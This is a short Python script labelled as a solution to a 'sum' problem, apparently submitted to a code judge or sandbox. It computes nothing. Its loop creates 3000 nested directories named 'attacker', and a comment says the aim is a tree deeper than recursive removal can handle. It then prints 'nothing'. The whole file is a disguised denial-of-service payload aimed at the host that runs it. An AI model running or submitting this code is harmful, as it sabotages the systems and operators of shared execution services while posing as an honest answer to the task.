# problem: sum
# Three thousand folders, one in the other: deeper than a recursive removal can go.
import os

for _ in range(3000):
    os.mkdir("attacker")
    os.chdir("attacker")
print("nothing")
